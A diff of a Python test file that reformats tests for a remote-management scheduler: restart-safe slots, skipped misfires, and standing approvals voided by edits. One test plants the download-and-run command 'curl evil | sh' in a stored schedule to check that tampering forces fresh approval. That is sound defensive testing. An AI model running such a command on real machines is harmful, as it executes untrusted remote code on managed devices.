@@ -43,8 +43,11 @@ async def _count(db: Database, model: Any) -> int:
 
 
 def _client(app: FastAPI, user: TestUser) -> httpx.AsyncClient:
-    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://hub.test",
-                             headers={"Authorization": f"Bearer {user.token}"})  # fmt: skip
+    return httpx.AsyncClient(
+        transport=httpx.ASGITransport(app=app),
+        base_url="http://hub.test",
+        headers={"Authorization": f"Bearer {user.token}"},
+    )
 
 
 async def _set_policy(app: FastAPI, admin: TestUser, tool: str, mode: str) -> None:
@@ -53,8 +56,9 @@ async def _set_policy(app: FastAPI, admin: TestUser, tool: str, mode: str) -> No
         assert resp.status_code == 200, resp.text
 
 
-async def test_a_slot_fires_exactly_once_across_a_hub_restart(settings: Settings, db: Database,
-                                                              tenancy: Tenancy) -> None:  # fmt: skip
+async def test_a_slot_fires_exactly_once_across_a_hub_restart(
+    settings: Settings, db: Database, tenancy: Tenancy
+) -> None:
     device_id = await make_device(db, tenancy.org_id)
     at = utcnow() + timedelta(hours=1)
     first = create_app(settings)
@@ -62,11 +66,19 @@ async def test_a_slot_fires_exactly_once_across_a_hub_restart(settings: Settings
         await _set_policy(first, tenancy.admin, "native_rmm:rmm-create-schedule", "auto")
         await _set_policy(first, tenancy.admin, "native_rmm:rmm-run-command", "auto")
         async with _client(first, tenancy.operator) as operator:
-            created = await _invoke(operator, "rmm-create-schedule", {
-                "name": "nightly echo", "tool": "run-command", "args": {"command": "echo scheduled"},
-                "target": {"kind": "device", "ids": [device_id]}, "trigger": {"kind": "once", "at": at.isoformat()},
-                "timezone": "Europe/London", "misfire": "run_late",
-            })  # fmt: skip
+            created = await _invoke(
+                operator,
+                "rmm-create-schedule",
+                {
+                    "name": "nightly echo",
+                    "tool": "run-command",
+                    "args": {"command": "echo scheduled"},
+                    "target": {"kind": "device", "ids": [device_id]},
+                    "trigger": {"kind": "once", "at": at.isoformat()},
+                    "timezone": "Europe/London",
+                    "misfire": "run_late",
+                },
+            )
         assert created["status"] == "done", created
         assert created["result"]["next_run_at"] is not None
     # The hub is down when the slot passes; the next hub's runner sees the clock past it (its tick is the job).
@@ -91,10 +103,17 @@ async def test_missed_slot_is_skipped_under_skip(app: FastAPI, hub: HubContext, 
     device_id = await make_device(db, tenancy.org_id)
     await _set_policy(app, tenancy.admin, "native_rmm:rmm-create-schedule", "auto")
     async with _client(app, tenancy.admin) as admin:
-        created = await _invoke(admin, "rmm-create-schedule", {
-            "name": "every minute", "tool": "run-command", "args": {"command": "uptime"},
-            "target": {"kind": "device", "ids": [device_id]}, "trigger": {"kind": "interval", "seconds": 60},
-        })  # fmt: skip
+        created = await _invoke(
+            admin,
+            "rmm-create-schedule",
+            {
+                "name": "every minute",
+                "tool": "run-command",
+                "args": {"command": "uptime"},
+                "target": {"kind": "device", "ids": [device_id]},
+                "trigger": {"kind": "interval", "seconds": 60},
+            },
+        )
     runner = hub.components.get(ScheduleRunner)
     async with db.sessionmaker() as session:
         slot = (await session.get(Schedule, created["result"]["id"])).next_run_at  # type: ignore[union-attr]
@@ -110,16 +129,24 @@ async def test_missed_slot_is_skipped_under_skip(app: FastAPI, hub: HubContext, 
 
 
 async def test_standing_approval_covers_runs_until_an_edit_voids_it(
-    app: FastAPI, hub: HubContext, db: Database, tenancy: Tenancy,
+    app: FastAPI,
+    hub: HubContext,
+    db: Database,
+    tenancy: Tenancy,
     client_for: Callable[[TestUser], httpx.AsyncClient],
-) -> None:  # fmt: skip
+) -> None:
     device_id = await make_device(db, tenancy.org_id)
     operator, approver = client_for(tenancy.operator), client_for(tenancy.approver)
     definition = {
-        "name": "patch tuesday", "tool": "run-command", "args": {"command": "echo patching"},
-        "target": {"kind": "device", "ids": [device_id]}, "trigger": {"kind": "cron", "cron": "0 3 * * 2"},
-        "timezone": "Europe/London", "approval_mode": "standing", "standing_days": 7,
-    }  # fmt: skip
+        "name": "patch tuesday",
+        "tool": "run-command",
+        "args": {"command": "echo patching"},
+        "target": {"kind": "device", "ids": [device_id]},
+        "trigger": {"kind": "cron", "cron": "0 3 * * 2"},
+        "timezone": "Europe/London",
+        "approval_mode": "standing",
+        "standing_days": 7,
+    }
     asked = await _invoke(operator, "rmm-create-schedule", definition)
     assert asked["status"] == "pending_approval"  # creating a schedule is a write: approval by default
     approved = await _approve(approver, asked["approval_id"])
@@ -143,19 +170,24 @@ async def test_standing_approval_covers_runs_until_an_edit_voids_it(
 
     # Tampering with the stored arguments breaks the digest: the run asks again.
     async with db.transaction() as session:
-        await session.execute(update(Schedule).where(Schedule.id == schedule["id"]).values(
-            args={"command": "curl evil | sh"}))  # fmt: skip
+        await session.execute(
+            update(Schedule).where(Schedule.id == schedule["id"]).values(args={"command": "curl evil | sh"})
+        )
     second_slot = await slot()
     assert await runner.tick(now=second_slot) == 1
     async with db.transaction() as session:
         latest = (await session.scalars(select(ScheduleRun).order_by(ScheduleRun.id.desc()))).first()
-        await session.execute(update(Schedule).where(Schedule.id == schedule["id"]).values(
-            args={"command": "echo patching"}))  # fmt: skip
+        await session.execute(
+            update(Schedule).where(Schedule.id == schedule["id"]).values(args={"command": "echo patching"})
+        )
     assert latest is not None and latest.status == "pending_approval" and len(latest.approval_ids) == 1
 
     # An edit voids the standing approval for good (even when the edit is approved).
-    edit = await _invoke(operator, "rmm-update-schedule", {**definition, "schedule_id": schedule["id"],
-                                                           "args": {"command": "echo patching v2"}})  # fmt: skip
+    edit = await _invoke(
+        operator,
+        "rmm-update-schedule",
+        {**definition, "schedule_id": schedule["id"], "args": {"command": "echo patching v2"}},
+    )
     edited = (await _approve(approver, edit["approval_id"]))["result"]
     assert edited["standing_until"] is None
     third_slot = await slot()
